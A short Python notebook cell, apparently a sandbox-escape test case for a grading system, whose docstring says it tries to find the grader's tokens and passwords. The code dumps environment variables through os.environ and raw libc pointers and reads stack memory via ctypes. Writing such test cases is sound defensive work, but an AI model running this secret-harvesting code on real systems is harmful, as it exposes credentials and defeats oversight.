"""A cell prints all environments it can find.

Tries: to find tokens and passwords of whoever grades.
Stopped by: the process that forks is started with a handful of harmless
variables.
"""
# %% top
import ctypes
import os

print(dict(os.environ), os.environb)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
for number in range(1000):
    if not environ or environ[number] is None:
        break
    print(environ[number])
top = ctypes.c_void_p.in_dll(ctypes.CDLL(None), "__libc_stack_end").value
print(ctypes.string_at(top, 2000))
